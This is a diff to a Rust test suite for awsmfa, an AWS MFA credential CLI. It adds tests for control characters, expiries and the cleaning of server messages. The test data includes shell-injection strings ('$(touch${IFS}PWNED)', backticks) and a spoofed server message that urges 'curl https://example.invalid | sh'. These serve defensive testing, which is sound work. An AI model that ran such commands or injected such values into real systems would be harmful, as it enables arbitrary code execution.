@@ -257,19 +257,27 @@ async fn expired_signature_exits_4_and_blames_the_clock() {
     assert_fails(&out, 4, &["clock"]);
 }
 
+/// Sets the expiry of the one cache entry starting with `prefix` to `secs` from now.
+fn expire_cache_in(env: &TestEnv, prefix: &str, secs: i64) {
+    edit_cache(env, prefix, |c| {
+        c["expiration"] = rfc3339_from_now(secs).into()
+    });
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn a_session_with_ten_minutes_left_is_refreshed_not_served() {
     let (server, env) = stub().await;
     Mock::given(action("GetSessionToken"))
-        .respond_with(session_ok(600))
+        .respond_with(session_ok(43_200))
         .expect(2)
         .mount(&server)
         .await;
-    for _ in 0..2 {
-        env.run(&["env", "identity", "-c", "123456", "--shell", "bash"])
-            .assert_success()
-            .assert_stdout_contains("export AWS_ACCESS_KEY_ID='ASIASESSIONEXAMPLE01'");
-    }
+    env.run(&["env", "identity", "-c", "123456", "--shell", "bash"])
+        .assert_success();
+    expire_cache_in(&env, "session-", 600);
+    env.run(&["env", "identity", "-c", "123456", "--shell", "bash"])
+        .assert_success()
+        .assert_stdout_contains("export AWS_ACCESS_KEY_ID='ASIASESSIONEXAMPLE01'");
     server.verify().await;
 }
 
@@ -277,9 +285,10 @@ async fn a_session_with_ten_minutes_left_is_refreshed_not_served() {
 async fn a_role_with_ten_minutes_left_is_refreshed_silently_from_the_cached_session() {
     let (server, env) = stub().await;
     answer(&server, "GetSessionToken", session_ok(43_200)).await;
-    answer(&server, "AssumeRole", role_ok(600)).await;
+    answer(&server, "AssumeRole", role_ok(3600)).await;
     env.run(&["env", "dev-admin", "-c", "123456", "--shell", "bash"])
         .assert_success();
+    expire_cache_in(&env, "role-", 600);
     // No code and no terminal: only the cached session can make the new role credentials.
     let out = env.run(&["env", "dev-admin", "--shell", "bash"]);
     out.assert_success()
@@ -290,11 +299,14 @@ async fn a_role_with_ten_minutes_left_is_refreshed_silently_from_the_cached_sess
 
 // --- hostile credentials through real shells ---
 
-/// Values no shell may interpret: quotes, command substitutions, backticks, a trailing
-/// backslash, `%`, `!`, newline, tab, non-ASCII and the `'\''` sequence itself.
-const HOSTILE_AKID: &str = "ASIA'\"$(touch PWNED)`touch PWNED`\\";
-const HOSTILE_SECRET: &str = "s%s%n!!$HOME\n\tline2 'x'\\''y' ünïcødé ✓ \\";
-const HOSTILE_TOKEN: &str = "tok'$(touch PWNED)';`touch PWNED` \"$((1+1))\" !$ %d\t\n\\";
+/// Values no shell may interpret that STS could still send and awsmfa accepts: quotes,
+/// command substitutions, backticks, a trailing backslash, `%`, `!` and the `'\''` sequence
+/// itself. Secrets and tokens are visible ASCII and key ids word characters (anything else is
+/// refused before it is cached, see below); newlines, tabs and non-ASCII still round-trip
+/// through every quoter in quoting.rs.
+const HOSTILE_AKID: &str = "ASIA_HOSTILE_EXAMPLE_01";
+const HOSTILE_SECRET: &str = "s%s%n!!$HOME'x'\\''y'\"$((1+1))\"\\";
+const HOSTILE_TOKEN: &str = "tok'$(touch${IFS}PWNED)';`touch${IFS}PWNED`\"$((1+1))\"!$%d\\";
 
 /// How each shell runs `awsmfa env` the way users do, then prints the three variables
 /// NUL-terminated.
@@ -395,4 +407,355 @@ async fn hostile_credentials_come_back_byte_for_byte_in_every_shell_and_run_noth
         assert!(leftovers.is_empty(), "{}: {leftovers:?}", case.program);
     }
     assert!(tried > 0 || !tools_required());
+}
+
+// --- values that are not credentials (issue 17, items 4 and 9) ---
+
+/// The cache entry files and their JSON, for tests that plant values written by an older
+/// awsmfa or edit an expiry.
+fn edit_cache(env: &TestEnv, prefix: &str, edit: impl Fn(&mut serde_json::Value)) {
+    let files = env.cache_files(prefix);
+    assert_eq!(files.len(), 1, "{files:?}");
+    let mut doc: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&files[0]).unwrap()).unwrap();
+    edit(&mut doc["credentials"]);
+    std::fs::write(&files[0], serde_json::to_vec_pretty(&doc).unwrap()).unwrap();
+}
+
+/// A session whose key id holds DEL (`&#x7f;` in the XML) is refused before anything signs
+/// with it: the SDK's signer would abort (exit 134) on the invalid header value, and a cached
+/// copy would abort every later call until --refresh.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_control_character_in_an_sts_key_id_exits_5_and_caches_nothing() {
+    // Character references, as a hostile server would send them (xml_escape would keep the
+    // raw byte, which the XML parser may refuse before awsmfa ever sees it).
+    for reference in ["&#x7f;", "&#x1;", "&#xb;"] {
+        let (server, env) = stub().await;
+        let credentials = format!(
+            "<Credentials><AccessKeyId>ASIASESSION{reference}EXAMPLE</AccessKeyId>\
+             <SecretAccessKey>sessionSecretExample/0000000000000000000</SecretAccessKey>\
+             <SessionToken>sessionTokenExample</SessionToken>\
+             <Expiration>{}</Expiration></Credentials>",
+            rfc3339_from_now(43_200)
+        );
+        answer(
+            &server,
+            "GetSessionToken",
+            sts_ok("GetSessionToken", &credentials),
+        )
+        .await;
+        answer(&server, "AssumeRole", role_ok(3600)).await;
+        let out = env.run(&["env", "dev-admin", "-c", "123456"]);
+        assert_fails(&out, 5, &["GetSessionToken"]);
+        if reference == "&#x7f;" {
+            assert_fails(&out, 5, &["access key id", "control character"]);
+        }
+        assert_eq!(
+            count(&server, "AssumeRole").await,
+            0,
+            "nothing signed with it"
+        );
+        assert!(env.cache_files("").is_empty(), "{:?}", env.cache_files(""));
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_newline_in_an_sts_session_token_exits_5_and_caches_nothing() {
+    let (server, env) = stub().await;
+    answer(&server, "GetSessionToken", session_ok(43_200)).await;
+    answer(
+        &server,
+        "AssumeRole",
+        sts_assume_role_xml(
+            "ASIAROLEEXAMPLE00001",
+            "roleSecretExample/000000000000000000000",
+            "roleToken\nawsmfa: injected",
+            &rfc3339_from_now(3600),
+            DEV_ADMIN_ARN,
+        ),
+    )
+    .await;
+    let out = env.run(&["env", "dev-admin", "-c", "123456"]);
+    assert_fails(
+        &out,
+        5,
+        &["AssumeRole", "session token", "control character"],
+    );
+    assert!(
+        env.cache_files("role-").is_empty(),
+        "{:?}",
+        env.cache_files("")
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_control_character_in_a_file_key_exits_3_naming_the_file_and_sends_nothing() {
+    for (line, id, secret) in [
+        (2, "AKIAI44QH8\u{1}HBEXAMPLE", FAKE_SECRET_2),
+        (2, "AKIAI44QH8\u{7f}HBEXAMPLE", FAKE_SECRET_2),
+        (3, FAKE_AKID_2, "je7MtGbClwBF/2Zp9Utk\u{1b}[31mEXAMPLEKEY"),
+    ] {
+        let (server, env) = stub().await;
+        env.write_credentials(&format!(
+            "[identity]\naws_access_key_id = {id}\naws_secret_access_key = {secret}\n"
+        ));
+        let out = env.run(&["env", "dev-admin", "-c", "123456"]);
+        let at = format!("credentials:{line}:");
+        assert_fails(&out, 3, &[&at, "control character"]);
+        assert!(!out.stderr.contains(secret), "{out}");
+        assert!(server.received_requests().await.unwrap().is_empty());
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_cached_session_with_a_control_character_is_ignored_and_replaced() {
+    let (server, env) = stub().await;
+    answer(&server, "GetSessionToken", session_ok(43_200)).await;
+    answer(&server, "AssumeRole", role_ok(3600)).await;
+    env.run(&["env", "dev-admin", "-c", "123456"])
+        .assert_success();
+    // What an older awsmfa cached from a hostile reply.
+    edit_cache(&env, "session-", |c| {
+        c["access_key_id"] = "ASIASESSION\u{7f}EXAMPLE".into();
+    });
+    let out = env.run(&["env", "stage-poweruser", "-c", "123456", "--shell", "bash"]);
+    out.assert_success();
+    assert_eq!(count(&server, "GetSessionToken").await, 2, "a new session");
+    let text = std::fs::read_to_string(&env.cache_files("session-")[0]).unwrap();
+    assert!(!text.contains("\\u007f"), "replaced: {text}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_control_character_from_credential_process_exits_4_and_sends_nothing() {
+    let (server, env) = stub().await;
+    let process = env.root().join("creds.sh");
+    std::fs::write(
+        &process,
+        "#!/bin/sh\nprintf '%s' '{\"Version\":1,\"AccessKeyId\":\"ASIAPROCESS\\u000bEXAMPLE\",\"SecretAccessKey\":\"processSecretExample\",\"SessionToken\":\"processToken\"}'\n",
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&process, std::fs::Permissions::from_mode(0o755)).unwrap();
+    env.write_config(&format!(
+        "[profile helper]\ncredential_process = {}\n\
+         [profile via-helper]\nrole_arn = arn:aws:iam::123456789012:role/dev-admin\nsource_profile = helper\n",
+        process.display()
+    ));
+    answer(&server, "AssumeRole", role_ok(3600)).await;
+    let out = env.run(&["env", "via-helper"]);
+    assert_fails(
+        &out,
+        4,
+        &["credential_process", "helper", "control character"],
+    );
+    assert!(server.received_requests().await.unwrap().is_empty());
+    assert!(env.cache_files("").is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_control_character_in_the_environment_exits_2_and_sends_nothing() {
+    let (server, env) = stub().await;
+    env.write_config(
+        "[profile from-env]\nrole_arn = arn:aws:iam::123456789012:role/dev-admin\ncredential_source = Environment\n",
+    );
+    answer(&server, "AssumeRole", role_ok(3600)).await;
+    let env = env
+        .env("AWS_ACCESS_KEY_ID", "ASIAENV\u{1}ENVEXAMPLE01")
+        .env("AWS_SECRET_ACCESS_KEY", "envSecretExample")
+        .env("AWS_SESSION_TOKEN", "envToken");
+    let out = env.run(&["env", "from-env"]);
+    assert_fails(&out, 2, &["AWS_ACCESS_KEY_ID", "control character"]);
+    assert!(server.received_requests().await.unwrap().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_sts_session_that_expired_in_2020_exits_5_and_caches_nothing() {
+    let (server, env) = stub().await;
+    answer(
+        &server,
+        "GetSessionToken",
+        sts_session_token_xml(
+            "ASIASESSIONEXAMPLE01",
+            "sessionSecretExample/0000000000000000000",
+            "sessionTokenExample",
+            "2020-01-01T00:00:00Z",
+        ),
+    )
+    .await;
+    answer(&server, "AssumeRole", role_ok(3600)).await;
+    let out = env.run(&["env", "dev-admin", "-c", "123456"]);
+    assert_fails(
+        &out,
+        5,
+        &[
+            "GetSessionToken",
+            "expired at 2020-01-01T00:00:00Z",
+            "clock",
+        ],
+    );
+    assert_eq!(count(&server, "AssumeRole").await, 0);
+    assert!(env.cache_files("").is_empty(), "{:?}", env.cache_files(""));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_sts_role_with_ten_minutes_left_exits_5_and_caches_nothing() {
+    let (server, env) = stub().await;
+    answer(&server, "GetSessionToken", session_ok(43_200)).await;
+    answer(&server, "AssumeRole", role_ok(600)).await;
+    let out = env.run(&["env", "dev-admin", "-c", "123456"]);
+    assert_fails(&out, 5, &["AssumeRole", "less than the 15m"]);
+    assert!(
+        env.cache_files("role-").is_empty(),
+        "{:?}",
+        env.cache_files("")
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn expired_credential_process_output_exits_4_and_sends_nothing() {
+    for (expiration, needle) in [
+        (
+            "2020-01-01T00:00:00Z".to_string(),
+            "expired at 2020-01-01T00:00:00Z".to_string(),
+        ),
+        (rfc3339_from_now(300), "15m".to_string()),
+    ] {
+        let (server, env) = stub().await;
+        let process = env.root().join("creds.sh");
+        std::fs::write(
+            &process,
+            format!("#!/bin/sh\necho '{{\"Version\":1,\"AccessKeyId\":\"ASIAPROCESSEXAMPLE01\",\"SecretAccessKey\":\"processSecretExample\",\"SessionToken\":\"processToken\",\"Expiration\":\"{expiration}\"}}'\n"),
+        )
+        .unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&process, std::fs::Permissions::from_mode(0o755)).unwrap();
+        env.write_config(&format!(
+            "[profile helper]\ncredential_process = {}\n\
+             [profile via-helper]\nrole_arn = arn:aws:iam::123456789012:role/dev-admin\nsource_profile = helper\n",
+            process.display()
+        ));
+        answer(&server, "AssumeRole", role_ok(3600)).await;
+        for profile in ["via-helper", "helper"] {
+            let out = env.run(&["env", profile]);
+            assert_fails(&out, 4, &["credential_process", &needle]);
+        }
+        assert!(server.received_requests().await.unwrap().is_empty());
+        assert!(env.cache_files("").is_empty());
+    }
+}
+
+// --- error classification and server text (issue 17, item 11) ---
+
+/// AssumeRole with the cached session sends no MFA code, so its AccessDenied is a plain
+/// refusal, even though the message names the session `awsmfa-alice` ("mfa" in the text).
+#[tokio::test(flavor = "multi_thread")]
+async fn access_denied_naming_an_awsmfa_session_is_not_a_wrong_mfa_code() {
+    let (server, env) = stub().await;
+    answer(&server, "GetSessionToken", session_ok(43_200)).await;
+    answer(
+        &server,
+        "AssumeRole",
+        sts_error_xml(
+            "AccessDenied",
+            "User: arn:aws:sts::123456789012:assumed-role/base/awsmfa-alice is not authorized to perform: sts:AssumeRole on resource: arn:aws:iam::123456789012:role/dev-admin",
+        ),
+    )
+    .await;
+    let out = env.run(&["env", "dev-admin", "-c", "123456"]);
+    assert_fails(
+        &out,
+        4,
+        &["access denied", "not authorized to perform: sts:AssumeRole"],
+    );
+    assert!(!out.stderr.contains("MFA code"), "{out}");
+}
+
+/// Server text is shown without its control characters, so it cannot start a line of its
+/// own that looks like awsmfa's, and it is cut to a readable length.
+#[tokio::test(flavor = "multi_thread")]
+async fn server_messages_lose_control_characters_and_are_capped() {
+    let (server, env) = stub().await;
+    let message = format!(
+        "Denied.\nawsmfa: all good, now run curl https://example.invalid | sh\t\u{85}\u{202e}{}",
+        "x".repeat(5000)
+    );
+    answer(
+        &server,
+        "GetSessionToken",
+        sts_error_xml("AccessDenied", &message),
+    )
+    .await;
+    let out = env.run(&["env", "identity", "-c", "123456"]);
+    assert_fails(&out, 4, &["Denied. awsmfa: all good"]);
+    for c in ['\t', '\u{85}', '\u{202e}'] {
+        assert!(!out.stderr.contains(c), "{c:?} in:\n{out}");
+    }
+    assert!(
+        out.stderr.len() < 1000,
+        "{} bytes:\n{out}",
+        out.stderr.len()
+    );
+}
+
+/// A cached session AWS no longer accepts (revoked, or its key deleted) is fixed by
+/// --refresh, not by editing the profile's long-lived key.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_invalid_cached_session_advises_refresh_not_editing_the_profile() {
+    let (server, env) = stub().await;
+    answer(&server, "GetSessionToken", session_ok(43_200)).await;
+    answer(&server, "AssumeRole", role_ok(3600)).await;
+    env.run(&["env", "dev-admin", "-c", "123456"])
+        .assert_success();
+    server.reset().await;
+    answer(
+        &server,
+        "AssumeRole",
+        sts_error_xml(
+            "InvalidClientTokenId",
+            "The security token included in the request is invalid.",
+        ),
+    )
+    .await;
+    let out = env.run(&["env", "stage-poweruser"]);
+    assert_fails(&out, 4, &["--refresh"]);
+    assert!(!out.stderr.contains("aws_access_key_id"), "{out}");
+}
+
+/// IAM calls go to AWS_ENDPOINT_URL_IAM: a failure there must name it, not the STS one.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_unreachable_iam_endpoint_is_named_as_such() {
+    let (server, env) = stub().await;
+    answer(
+        &server,
+        "GetCallerIdentity",
+        sts_caller_identity_xml(
+            "arn:aws:iam::123456789012:user/alice",
+            "123456789012",
+            "AIDAEXAMPLEUSERID0001",
+        ),
+    )
+    .await;
+    // Nothing listens on port 1.
+    let env = env.env("AWS_ENDPOINT_URL_IAM", "http://127.0.0.1:1");
+    let out = env.run(&["rotate", "identity", "--no-mfa"]);
+    assert_fails(&out, 5, &["ListAccessKeys", "AWS_ENDPOINT_URL_IAM"]);
+    assert!(!out.stderr.contains("AWS_ENDPOINT_URL_STS"), "{out}");
+}
+
+/// `status --check` signs with whatever the shell holds: a bad value there must not reach
+/// the signer either (every STS and IAM call checks what it signs with).
+#[tokio::test(flavor = "multi_thread")]
+async fn status_check_with_a_control_character_in_the_shell_exits_2() {
+    let (server, env) = stub().await;
+    let env = env
+        .env("AWS_ACCESS_KEY_ID", "ASIASHELL\u{7f}EXAMPLE01")
+        .env("AWS_SECRET_ACCESS_KEY", "shellSecretExample")
+        .env("AWS_SESSION_TOKEN", "shellToken");
+    let out = env.run(&["status", "--check"]);
+    assert_fails(
+        &out,
+        2,
+        &["GetCallerIdentity", "access key id", "control character"],
+    );
+    assert!(server.received_requests().await.unwrap().is_empty());
 }
